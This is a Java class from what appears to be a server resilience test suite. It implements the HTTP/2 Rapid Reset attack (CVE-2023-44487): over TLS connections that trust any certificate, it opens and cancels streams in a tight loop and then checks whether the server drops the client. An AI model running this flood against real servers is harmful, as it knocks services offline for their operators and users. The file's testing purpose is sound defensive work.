package confab.bench.abuse;

import confab.bench.abuse.Attack.Outcome;
import confab.rig.hostile.AnyCertificate;
import confab.rig.hostile.Http2;
import java.io.IOException;
import java.net.Socket;
import java.security.GeneralSecurityException;
import javax.net.ssl.SSLContext;
import javax.net.ssl.SSLParameters;
import javax.net.ssl.SSLSocket;

/// A hostile client has the edge begin requests of HTTP/2, and takes each back before there is an
/// answer (CVE-2023-44487).
final class Resets {
  private Resets() {}

  static Outcome run(Target target) throws Exception {
    Target.Clock clock = target.begin();
    var tally = new Tally();
    int sent = 0;
    while (clock.runs()) {
      try (Socket plain = Tcp.connect(Target.oneAddress(), target.https());
          SSLSocket socket = secure(plain)) {
        socket.getOutputStream().write(Http2.opening());
        for (int stream = 1; clock.runs(); stream += 2) {
          socket.getOutputStream().write(Http2.resetRequest(stream));
          sent++;
        }
        tally.add("open at the end");
      } catch (IOException e) {
        tally.add(HostileSocket.CUT);
        Thread.sleep(10);
      }
    }
    return new Outcome("%s; %d sent".formatted(tally, sent), tally.count(HostileSocket.CUT) > 0);
  }

  private static SSLSocket secure(Socket plain) throws IOException, GeneralSecurityException {
    SSLContext context = AnyCertificate.taken();
    var socket = (SSLSocket) context.getSocketFactory().createSocket(plain, "localhost", 1, true);
    SSLParameters parameters = socket.getSSLParameters();
    parameters.setApplicationProtocols(new String[] {"h2"});
    socket.setSSLParameters(parameters);
    socket.startHandshake();
    return socket;
  }
}
